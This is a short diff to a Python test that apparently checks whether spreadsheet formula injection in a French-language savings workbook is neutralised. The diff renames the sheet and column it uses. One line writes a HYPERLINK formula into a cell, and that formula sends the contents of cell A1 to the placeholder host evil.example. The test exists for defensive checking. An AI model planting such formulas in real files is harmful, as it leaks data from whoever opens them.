@@ -362,8 +362,8 @@ def test_scenario_name_is_neutralised_in_metrics_and_savings(tmp_path):
 def test_explanation_is_neutralised_in_savings_variance(tmp_path):
     actuals = tmp_path / "actuals.xlsx"
     wb = openpyxl.load_workbook(EXAMPLE_ACTUALS)
-    ws = wb["savings"]
-    col = [c.value for c in ws[1]].index("explanation") + 1
+    ws = wb["Économies"]  # the example is French
+    col = [c.value for c in ws[1]].index("Explication de l'écart") + 1
     row = next(r for r in range(2, ws.max_row + 1) if ws.cell(r, 2).value == 2021)
     cell = ws.cell(row, col)
     cell.value = '=HYPERLINK("http://evil.example/?x="&A1,"details")'
